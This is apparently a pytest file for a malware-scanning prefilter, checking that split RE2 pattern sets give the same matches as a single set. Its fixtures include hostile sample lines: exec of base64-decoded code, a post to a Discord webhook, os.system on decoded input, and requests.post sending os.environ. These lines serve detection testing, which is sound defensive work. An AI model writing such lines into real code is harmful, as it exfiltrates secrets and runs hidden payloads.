"""The prefilter's RE2 sets: a group compiled as several sets answers as one (speed16)."""

from __future__ import annotations

import sysconfig
from bisect import bisect_left
from pathlib import Path

import pytest

from caplet._scan._prefilter import PREFILTER_PATTERNS, prefilter
from caplet._scan._prefilter_patterns import PAIRS
from caplet._scan._prefilter_sets import BLIND, Sets, newlines

_NUMBERED = list(enumerate([*PREFILTER_PATTERNS, *(p for pair in PAIRS for p in pair)]))
#: Real text and the shapes the patterns are written for, each side of a pair alone too.
_TEXTS = [
    "x = 1\n",
    "exec(b64decode(x)); post('https://discord.com/api/webhooks/1/a')\n",
    "exec(b64decode(x))\n",
    "import os\nos.system(__import__('base64').b64decode(x))\n",
    "import requests, os\nrequests.post(URL, data=dict(os.environ))\n",
    "getattr(__builtins__, 'ev' + 'al')(c)\n",
    "from subprocess import (\n    Popen,\n)\n",
    *(
        p.read_text("utf-8", "replace")
        for p in sorted(Path(sysconfig.get_paths()["stdlib"]).glob("*.py"))[:120]
    ),
]


class _Blind:
    """A set whose DFA failed (google-re2 answers "no match", its sentinel included)."""

    def Match(self, data: bytes) -> list[int]:
        return []


@pytest.mark.parametrize("ways", [2, 3])
def test_a_group_compiled_as_several_sets_answers_as_one(ways: int) -> None:
    whole = Sets([_NUMBERED])
    split = Sets([_NUMBERED], split=(ways,))
    assert len(split.parts) == ways
    for text in _TEXTS:
        data = text.encode()
        assert sorted(split.Match(data)) == sorted(whole.Match(data)), text[:60]
    assert split.Match(b"x = 1\n") == []


def test_a_pattern_two_indices_share_is_compiled_once_and_answers_for_both() -> None:
    sets = Sets([[(0, r"\bexec\("), (1, r"b64decode"), (2, r"\bexec\(")]], split=(2,))
    assert sorted(len(owners) - 1 for owners, _ in sets.parts) == [1, 1]
    assert sorted(sets.Match(b"exec(b64decode(x))")) == [0, 1, 2]


def test_every_part_must_answer_and_every_group_find_the_probe() -> None:
    # the probe need not hit each half of a split group (its patterns are dealt out in
    # turn, whatever the pattern list), but each half must answer (its sentinel), and
    # each group must find something in it
    sets = Sets([[(0, r"discord\.com"), (1, r"\bexec\("), (2, r"\bnever_here\b")]], split=(3,))
    probe = b"exec(b64decode(x)); post('https://discord.com/api/webhooks/1/a')"
    assert sets.each_answers(probe)
    assert not sets.each_answers(b"x = 1")  # answered, but the group found nothing
    for index in range(3):
        blinded = Sets([[(0, r"discord\.com"), (1, r"\bexec\("), (2, r"\bnever_here\b")]], (3,))
        blinded.parts[index] = (blinded.parts[index][0], _Blind())
        assert not blinded.each_answers(probe)
        assert blinded.Match(probe) == [BLIND]


def test_the_prefilters_solo_set_is_two_its_pairs_three_and_the_probe_reaches_each() -> None:
    sets = prefilter()._set
    assert sets.groups == [0, 0, 1, 1, 1]
    assert prefilter().engine_answers(
        'exec(b64decode(x)); post("https://discord.com/api/webhooks/1/a")'
    )


@pytest.mark.parametrize(
    "data", [b"", b"\n", b"x", b"x\n", b"\n\nx", b"a\nbb\n\nccc\n", "\u00e9\n\u20ac x\n".encode()]
)
def test_a_line_looked_up_among_the_newlines_is_the_line_counted(data: bytes) -> None:
    offsets = newlines(data)
    assert offsets[-1] == len(data)
    for at in range(len(data) + 1):
        assert bisect_left(offsets, at) == data.count(b"\n", 0, at)
